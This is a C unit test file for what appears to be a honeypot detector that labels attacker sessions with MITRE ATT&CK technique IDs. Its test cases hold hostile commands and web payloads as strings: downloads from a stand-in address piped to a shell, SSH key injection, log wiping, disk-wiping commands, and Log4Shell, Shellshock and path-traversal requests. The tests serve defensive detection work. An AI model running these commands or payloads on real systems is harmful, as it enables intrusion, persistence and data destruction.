/* test_techniques.c - ATT&CK rules: a table of what was done and what it is called; the table itself in order; the page
 * that documents it, word for word. */
#include "testing.h"

#include <stdio.h>
#include <stdlib.h>

#include "detect/text/data/techniques.h"
#include "detect/text/techniques.h"
#include "sessions.h"

static void
ids_of(enum session_service service, const struct test_item *items, size_t n, const char *agent,
    char out[512])
{
	struct session_row row = { .duration_us = -1, .text[TEXT_USER_AGENT] = sv_from(agent) };
	struct session_table table = session_by_hand(service, items, n, &row);
	struct arena *scratch = arena_new(8 << 20);
	struct technique_memo memo = { .n = 0 };
	uint8_t indices[TECHNIQUES_MAX], again[TECHNIQUES_MAX];
	size_t count = techniques_of_session(&table, 0, NULL, scratch, indices, TECHNIQUES_MAX),
	       len = 0;

	for (unsigned i = 0; i < 2; i++) { /* learning and remembering give the same */
		assert_int_equal(
		    techniques_of_session(&table, 0, &memo, scratch, again, TECHNIQUES_MAX), count);
		assert_memory_equal(again, indices, count);
	}
	technique_memo_clear(&memo);

	out[0] = '\0';
	for (size_t i = 0; i < count; i++) {
		assert_true(i == 0 || indices[i] > indices[i - 1]);
		len += (size_t)snprintf(
		    out + len, 512 - len, "%s%s", i > 0 ? " " : "", technique_at(indices[i])->id);
	}
	assert_int_equal(arena_used(scratch), 0);
	arena_free(scratch);
	session_table_free(&table);
}

static void
test_commands(void **state)
{
	/* clang-format off */
	static const struct {
		const char *line, *want;
	} cases[] = {
		{ "xyzzy", "T1059.004" },
		{ "/bin/busybox wget http://198.51.100.1/a", "T1059.004 T1105" },
		{ "wget", "T1059.004" },
		{ "echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7vbqajDRETlcQWcCkE6yxzZ01 x\">>.ssh/authorized_keys", "T1059.004 T1098.004" },
		{ "uname -a; whoami; ps aux", "T1033 T1057 T1059.004 T1082" },
		{ "cat /proc/cpuinfo", "T1059.004 T1082" },
		{ "cat /etc/passwd", "T1059.004 T1087.001" },
		{ "crontab -l", "T1059.004" },
		{ "crontab -r", "T1053.003 T1059.004" },
		{ "echo x >> /etc/cron.d/a", "T1053.003 T1059.004" },
		{ "unset HISTFILE; history -c", "T1059.004 T1070.003 T1562.003" },
		{ "rm -rf /var/log/wtmp", "T1059.004 T1070.002 T1070.004" },
		{ "rm -rf x", "T1059.004 T1070.004" },
		{ "chmod 777 x", "T1059.004 T1222.002" },
		{ "echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 --decode | bash", "T1059.004 T1140" },
		{ "echo Y2QgL3RtcDsgd2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3guc2g7IHNoIHguc2g=", "T1059.004 T1105" },
		{ "service iptables stop", "T1059.004 T1489 T1562.004" },
		{ "iptables -F", "T1059.004 T1562.004" },
		{ "pkill -9 xmrig", "T1059.004 T1489 T1496" },
		{ "echo root:x|chpasswd", "T1059.004 T1098 T1531" },
		{ "echo x|passwd", "T1059.004 T1098 T1531" },
		{ "useradd a; sudo id", "T1033 T1059.004 T1136.001 T1548.003" },
		{ "ifconfig; netstat -an", "T1016 T1049 T1059.004" },
		{ "scp -t /tmp/x", "T1059.004 T1105" },
		{ "pm path com.ufo.miner", "T1059.004 T1496" },
		{ "reboot", "T1059.004 T1529" },
		{ "dd if=/dev/zero of=/dev/sda", "T1059.004 T1485" },
		{ "rm -rf /*", "T1059.004 T1070.004 T1485" },
	};
	/* clang-format on */
	char got[512];

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct test_item item = { ITEM_COMMAND, cases[i].line, NULL, 0 };

		ids_of(SERVICE_TELNET, &item, 1, NULL, got);
		if (strcmp(got, cases[i].want) != 0)
			fail_msg("%s\n  got  %s\n  want %s", cases[i].line, got, cases[i].want);
	}
}

static void
test_logins(void **state)
{
	static const struct test_item failed[] = { { ITEM_CREDENTIAL, "root", "1", 0 } };
	static const struct test_item let_in[] = { { ITEM_CREDENTIAL, "root", "1", 0 },
		{ ITEM_CREDENTIAL, "root", "2", ITEM_SUCCESS } };
	static const struct test_item sprayed[] = { { ITEM_CREDENTIAL, "a", "1", 0 },
		{ ITEM_CREDENTIAL, "b", "1", 0 }, { ITEM_CREDENTIAL, "c", "1", 0 } };
	static const struct test_item repeated[] = { { ITEM_CREDENTIAL, "a", "1", 0 },
		{ ITEM_CREDENTIAL, "a", "1", 0 }, { ITEM_CREDENTIAL, "b", "1", 0 } };
	static const struct test_item stuffed[] = { { ITEM_CREDENTIAL, "a", "1", 0 },
		{ ITEM_CREDENTIAL, "b", "2", 0 }, { ITEM_CREDENTIAL, "c", "3", 0 } };
	char got[512];

	(void)state;
	ids_of(SERVICE_SSH, failed, 1, NULL, got);
	assert_string_equal(got, "T1110.001");
	ids_of(SERVICE_SSH, let_in, 2, NULL, got);
	assert_string_equal(got, "T1021.004 T1078 T1110.001");
	ids_of(SERVICE_TELNET, let_in, 2, NULL, got);
	assert_string_equal(got, "T1078 T1110.001");
	ids_of(SERVICE_SSH, sprayed, 3, NULL, got);
	assert_string_equal(got, "T1110.001 T1110.003");
	ids_of(SERVICE_SSH, repeated, 3, NULL, got);
	assert_string_equal(got, "T1110.001");
	ids_of(SERVICE_SSH, stuffed, 3, NULL, got);
	assert_string_equal(got, "T1110.001 T1110.004");
}

static void
test_network(void **state)
{
	static const struct test_item ports[] = { { ITEM_PORT, "tcp/22", NULL, 0 },
		{ ITEM_PORT, "tcp/23", NULL, 0 }, { ITEM_PORT, "tcp/22", NULL, 0 },
		{ ITEM_PORT, "tcp/80", NULL, 0 } };
	static const struct test_item forward = { ITEM_FORWARD, "ya.ru:80", NULL, 0 };
	static const struct test_item hash = { ITEM_FILE_HASH, "00", NULL, 0 };
	static const struct test_item trivial = { ITEM_FILE_HASH, "00", NULL, ITEM_TRIVIAL };
	char got[512];

	(void)state;
	ids_of(SERVICE_SCAN, ports, 3, NULL, got);
	assert_string_equal(got, "T1595.001");
	ids_of(SERVICE_SCAN, ports, 4, NULL, got);
	assert_string_equal(got, "T1046 T1595.001");
	ids_of(SERVICE_SSH, &forward, 1, NULL, got);
	assert_string_equal(got, "T1090");
	ids_of(SERVICE_SSH, &hash, 1, NULL, got);
	assert_string_equal(got, "T1105");
	ids_of(SERVICE_SSH, &trivial, 1, NULL, got);
	assert_string_equal(got, "");
}

static void
test_web(void **state)
{
	/* clang-format off */
	static const struct {
		const char *request, *header, *agent, *want;
	} cases[] = {
		{ "GET /", NULL, NULL, "" },
		{ "GET /", NULL, "Mozilla/5.0 zgrab/0.x", "T1595.002" },
		{ "GET /manager/html", NULL, NULL, "T1595.002" },
		{ "GET /", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://198.51.100.1/a}", NULL, "T1190" },
		{ "GET /shell?cd+/tmp;rm+-rf+.j;wget+http://198.51.100.1/j", NULL, NULL, "T1190" },
		{ "POST /GponForm/diag_Form?images/", NULL, NULL, "T1190" },
		{ "GET /?s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", NULL, NULL, "T1190" },
		{ "GET /cgi-bin/x", "() { :; }; /bin/bash -c ls", NULL, "T1190" },
		{ "GET /../../../etc/passwd", NULL, NULL, "T1190" },
	};
	/* clang-format on */
	char got[512];

	(void)state;
	for (size_t i = 0; i < COUNT_OF(cases); i++) {
		struct test_item items[2] = { { ITEM_REQUEST, cases[i].request, NULL, 0 },
			{ ITEM_HEADER, "x", cases[i].header, 0 } };

		ids_of(SERVICE_WEB, items, cases[i].header != NULL ? 2 : 1, cases[i].agent, got);
		if (strcmp(got, cases[i].want) != 0)
			fail_msg("%s\n  got  %s\n  want %s", cases[i].request, got, cases[i].want);
	}
}

static void
test_many_requests(void **state)
{
	struct test_item items[12];
	char text[12][16], got[512];

	(void)state;
	for (size_t i = 0; i < 12; i++) {
		snprintf(text[i], sizeof(text[i]), "GET /p%zu", i < 9 ? i : 9 + i / 11);
		items[i] = (struct test_item){ ITEM_REQUEST, text[i], NULL, 0 };
	}
	ids_of(SERVICE_WEB, items, 10, NULL, got);
	assert_string_equal(got, "T1595.003");
	ids_of(SERVICE_WEB, items, 9, NULL, got);
	assert_string_equal(got, "");
}

/** The table is in order, every rule names a technique of it, every technique has a rule. */
static void
test_table(void **state)
{
	const struct technique_rule *rule;

	(void)state;
	assert_true(technique_count() > 30 && technique_count() <= TECHNIQUES_MAX);
	assert_null(technique_at(technique_count()));
	for (size_t i = 0; i < technique_count(); i++) {
		const struct technique *t = technique_at(i);
		size_t rules = 0;

		assert_true(i == 0 || strcmp(technique_at(i - 1)->id, t->id) < 0);
		for (size_t k = 0; (rule = technique_rule_at(k)) != NULL; k++)
			rules += strcmp(rule->id, t->id) == 0;
		if (rules == 0)
			fail_msg("%s has no rule", t->id);
	}
	for (size_t k = 0; (rule = technique_rule_at(k)) != NULL; k++) {
		bool known = false;

		for (size_t i = 0; i < technique_count(); i++)
			known = known || strcmp(technique_at(i)->id, rule->id) == 0;
		if (!known)
			fail_msg("rule for %s, which is not in the table", rule->id);
	}
}

/** docs/techniques.md holds exactly the table's rows. */
static void
test_page(void **state)
{
	FILE *page = fopen(COORD_SOURCE "/docs/techniques.md", "r");
	char line[1024], want[1024];
	size_t rows = 0;

	(void)state;
	assert_non_null(page);
	while (fgets(line, sizeof(line), page) != NULL) {
		const struct technique *t = technique_at(rows);

		if (strncmp(line, "| T", 3) != 0)
			continue;
		assert_non_null(t);
		snprintf(want, sizeof(want), "| %s | %s | %s |\n", t->id, t->name, t->rule);
		assert_string_equal(line, want);
		rows++;
	}
	fclose(page);
	assert_int_equal(rows, technique_count());
}

static void
test_hostile(void **state)
{
	static const char *const fillers[] = { "a;", "_", "\\x41", "${", "%41", "wget ", "'" };
	size_t size = 1 << 20;
	char *line = malloc(size + 1), got[512];

	(void)state;
	for (size_t k = 0; k < COUNT_OF(fillers); k++) {
		struct test_item items[2];
		size_t n = strlen(fillers[k]);

		for (size_t i = 0; i < size; i++)
			line[i] = fillers[k][i % n];
		line[size] = '\0';
		items[0] = (struct test_item){ ITEM_COMMAND, line, NULL, 0 };
		items[1] = (struct test_item){ ITEM_REQUEST, line, line, 0 };
		ids_of(SERVICE_WEB, items, 2, line, got);
	}
	free(line);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_commands),
		cmocka_unit_test(test_logins),
		cmocka_unit_test(test_network),
		cmocka_unit_test(test_web),
		cmocka_unit_test(test_many_requests),
		cmocka_unit_test(test_table),
		cmocka_unit_test(test_page),
		cmocka_unit_test(test_hostile),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
